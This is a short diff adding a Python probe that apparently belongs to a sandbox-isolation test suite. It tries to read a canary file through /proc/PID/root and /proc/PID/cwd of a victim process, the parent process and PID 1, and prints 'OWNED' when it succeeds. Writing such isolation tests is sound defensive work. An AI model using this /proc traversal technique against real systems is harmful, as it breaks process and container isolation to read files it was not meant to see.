@@ -1,0 +1,12 @@
+# ruff: noqa: F821, B018
+# idea: /proc/PID/root is a door to the file system another process sees
+# undefended: owned
+# room: harmless
+import os
+
+for pid in (VICTIM, os.getppid(), 1):
+    for door in ("root", "cwd"):
+        try:
+            print("OWNED", open(f"/proc/{pid}/{door}/{CANARY_FILE.lstrip('/')}").read())
+        except OSError:
+            continue
